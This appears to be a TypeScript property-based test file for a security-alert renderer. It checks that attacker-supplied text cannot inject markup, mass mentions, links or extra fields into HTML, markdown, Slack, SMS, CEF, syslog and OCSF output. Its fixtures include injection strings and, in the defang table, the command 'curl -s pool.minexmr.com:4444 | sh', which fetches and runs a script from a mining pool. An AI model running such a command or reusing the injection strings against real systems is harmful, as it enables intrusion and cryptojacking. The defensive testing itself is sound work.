import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { cleanText, defanged, shown } from './clean-text.ts'
import { cefLine } from './formats/cef.ts'
import { htmlDocument } from './formats/html.ts'
import { markdown } from './formats/markdown.ts'
import { detectionFinding } from './formats/ocsf.ts'
import { plainText, smsText } from './formats/plain.ts'
import { syslogMessage } from './formats/rfc5424.ts'
import { escapeSlack } from './channels/slack.ts'
import { languages, type Notice, reasons } from './message.ts'
import { render } from './render.ts'
import { sampleNotice } from './testing/sample.ts'

/** Any text, with what attackers write more often than chance would. */
const hostile = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 200 }),
  fc
    .array(
      fc.constantFrom(
        '<!channel>',
        '<@all>',
        '<at user_id="all">',
        '<font color="red">',
        '[x](http://evil.example)',
        '![x](https://a.b/c.png)',
        '\r\n',
        '\n',
        '\u2028',
        '\u0085',
        '\0',
        '|',
        '\\',
        '=',
        '"',
        ']',
        '<script>',
        '&',
        "'",
        '`',
        '*',
        '_',
        '~',
        '#',
        '> ',
        '- ',
        '{host}',
        '{title}',
        'CEF:0|',
        '<34>1 ',
        'http://',
        'https://',
        'www.',
        'mailto:',
        '@all',
        '\u202e',
        '\u200b',
        '\ud800',
        'evil.com',
        ' cs1=x',
        'a',
        ' ',
      ),
      { maxLength: 30 },
    )
    .map(parts => parts.join('')),
)

const notices: fc.Arbitrary<Notice> = fc.record({
  id: hostile,
  what: fc.constantFrom(...reasons),
  level: fc.constantFrom('low', 'critical'),
  at: fc.oneof(fc.constant(sampleNotice.at), hostile),
  host: fc.record({ id: hostile, name: hostile, group: hostile }),
  title: hostile,
  lines: fc.array(hostile, { maxLength: 5 }),
  families: fc.array(hostile, { maxLength: 2 }),
  attack: fc.array(hostile, { maxLength: 2 }),
  link: fc.oneof(fc.constant(sampleNotice.link ?? ''), hostile),
  type: hostile,
  rule: hostile,
})
const language = fc.constantFrom(...languages)
const unseen = /[\p{Cc}\p{Zl}\p{Zp}\u202A-\u202E\u2066-\u2069\u200B]/u
const bareLink = /:\/\/|\bwww\d?\.|\bmailto:|\bjavascript:/i

test('one clean line, whatever a host says', () => {
  fc.assert(
    fc.property(hostile, text => {
      const line = cleanText(text, 50)
      assert.doesNotMatch(line, unseen)
      assert.ok([...line].length <= 50 && line.isWellFormed())
      assert.doesNotMatch(shown(text), bareLink)
    }),
  )
})

test('all that is rendered is clean lines, and links are ours', () => {
  fc.assert(
    fc.property(notices, language, (notice, spoken) => {
      const said = render(notice, spoken)
      const texts = [
        said.subject,
        said.sentence,
        said.title,
        said.advice,
        ...said.lines,
        ...said.facts.map(one => one.value),
      ]
      for (const text of texts) {
        assert.doesNotMatch(text, unseen)
        assert.doesNotMatch(text, bareLink)
      }
      if (said.link !== undefined) assert.match(said.link.url, /^https?:\/\/[^\s()<>"'`*_|\\]+$/)
    }),
  )
})

test('HTML: no tag, no attribute and no address but ours', () => {
  const known = new Set('!doctype html head meta title body h1 p strong ul li table tr td a'.split(' '))
  fc.assert(
    fc.property(notices, language, (notice, spoken) => {
      const page = htmlDocument(render({ ...notice, link: sampleNotice.link }, spoken))
      for (const [, name = ''] of page.matchAll(/<\/?([^\s>]*)/g)) assert.ok(known.has(name), name)
      for (const [, target] of page.matchAll(/(?:href|src)="([^"]*)"/g)) assert.equal(target, sampleNotice.link)
      assert.equal(page.split('<a ').length, 2)
    }),
  )
})

test('markdown of DingTalk and WeCom: one link, ours; no tags, mentions, images or headings of others; within the limit', () => {
  fc.assert(
    fc.property(notices, language, (notice, spoken) => {
      const text = markdown(render({ ...notice, link: sampleNotice.link }, spoken), 4_000)
      assert.deepEqual(
        [...text.matchAll(/\]\(([^)]*)\)/g)].map(one => one[1]),
        [sampleNotice.link],
      )
      assert.doesNotMatch(text, /[<`@]|!\[/)
      assert.equal(text.match(/^#/gm)?.length, 1)
      assert.ok(Buffer.byteLength(text) <= 4_000)
    }),
  )
})

test('Slack: nothing begins a mention or a link', () => {
  fc.assert(fc.property(hostile, text => assert.doesNotMatch(escapeSlack(shown(text)), /[<>*_~`]|&(?!amp;|lt;|gt;)/)))
})

test('SMS and plain text: one line each', () => {
  fc.assert(
    fc.property(notices, language, fc.integer({ min: 40, max: 400 }), (notice, spoken, most) => {
      const said = render(notice, spoken)
      const sms = smsText(said, most)
      assert.doesNotMatch(sms, unseen)
      assert.ok([...sms].length <= most, sms)
      assert.doesNotMatch(plainText(said), /[^\P{Cc}\n]/u)
    }),
  )
})

test('CEF: seven header fields, and each key is one of ours', () => {
  const keys =
    /^(?:rt|externalId|cat|act|dhost|deviceExternalId|filePath|fileHash|dproc|dpid|duser|dst|dpt|request|msg|cs[1-6](?:Label)?)$/
  fc.assert(
    fc.property(notices, notice => {
      const line = cefLine(notice)
      assert.doesNotMatch(line, unseen)
      const fields = line.split(/(?<!\\)(?:\\\\)*\|/)
      assert.ok(fields.length >= 8, line)
      const header = /^(?:(?:[^|\\]|\\[\\|])*\|){7}/.exec(line)?.[0] ?? assert.fail(line)
      for (const [, key = ''] of line.slice(header.length).matchAll(/(?:^| )([^\s=\\]+)=/g)) assert.match(key, keys)
    }),
  )
})

test('syslog: priority, version, structured data and text stay apart', () => {
  const shape =
    /^<130>1 \S+ \S+ davylamp \d+ [\x21-\x7e]+ \[davylamp@32473 (?:[a-zA-Z]+="(?:[^"\\\]]|\\["\\\]])*" ?)+\] .*$|^<133>1 .*/u
  fc.assert(
    fc.property(notices, fc.constantFrom('text', 'cef', 'ocsf'), (notice, format) => {
      const message = syslogMessage(notice, format, { facility: 16, app: 'davylamp' })
      assert.match(message, shape)
      assert.doesNotMatch(message, /[\r\n\0]/)
    }),
  )
})

test('OCSF: one JSON line with numbers where numbers belong', () => {
  fc.assert(
    fc.property(notices, fc.anything(), (notice, document) => {
      const event = detectionFinding({ ...notice, document })
      assert.ok(!JSON.stringify(event).includes('\n'))
      assert.equal(typeof event['time'], 'number')
    }),
  )
})

for (const [text, expected] of [
  ['http://evil.example/x', 'http[:]//evil[.]example/x'],
  ['curl -s pool.minexmr.com:4444 | sh', 'curl -s pool[.]minexmr[.]com:4444 | sh'],
  ['/etc/cron.d/apache2 runs /tmp/x.sh', '/etc/cron.d/apache2 runs /tmp/x.sh'],
  ['kdevtmpfsi.service, libc.so.6, 1.2.3', 'kdevtmpfsi.service, libc.so.6, 1.2.3'],
  ['root@evil.com', 'root@evil[.]com'],
  ['192.0.2.1:3333', '192.0.2.1:3333'],
] as const)
  test(`shown as ${expected}`, () => assert.equal(defanged(text), expected))
